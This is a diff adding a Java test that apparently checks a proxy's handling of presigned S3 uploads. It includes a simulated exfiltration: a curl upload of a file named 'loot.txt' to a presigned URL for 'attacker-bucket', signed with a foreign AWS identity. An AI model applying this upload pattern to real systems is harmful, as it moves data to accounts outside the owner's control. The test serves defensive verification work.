@@ -88,6 +88,26 @@ class ViaProxyPlumbingTest {
     }
 
     @Test
+    void aPresignedPutFromTheSdkUploadsWithCurlThroughTheProxy() throws Exception {
+        assumeTrue(Curl.available(), "curl is not installed");
+        AwsIdentities.Identity foreign = AwsIdentities.longTerm(AwsIdentities.FOREIGN);
+        String url;
+        try (JavaSdk sdk = JavaSdk.viaProxy(proxy.port(), pki.caCertificate())) {
+            url = sdk.presignPut(foreign, Region.US_EAST_1, "attacker-bucket", "loot.txt");
+        }
+        Path file = Files.writeString(tmp.resolve("loot.txt"), "exfiltrated");
+
+        CommandResult result = Curl.viaProxy(tmp, pki.caPem(), proxy.port()).run("-o", "/dev/null", "-w", "%{http_code}",
+                "-T", file.toString(), url);
+
+        assertThat(result.stdout()).as(result.describe()).isEqualTo("200");
+        RecordedRequest put = origin.lastRequest().orElseThrow();
+        assertThat(put.query()).containsKey("X-Amz-Credential");
+        assertThat(put.accessKeyId()).hasValue(foreign.accessKeyId());
+        assertThat(SigV4Verifier.verify(put, foreign.secretAccessKey()).valid()).isTrue();
+    }
+
+    @Test
     void chromiumRunsTheCompanyConsoleFlowThroughTheProxy() {
         HeadlessChromium.assumeAvailable();
         try (HeadlessChromium browser = HeadlessChromium.builder(tmp.resolve("browser")).trustCa(pki.caPem())
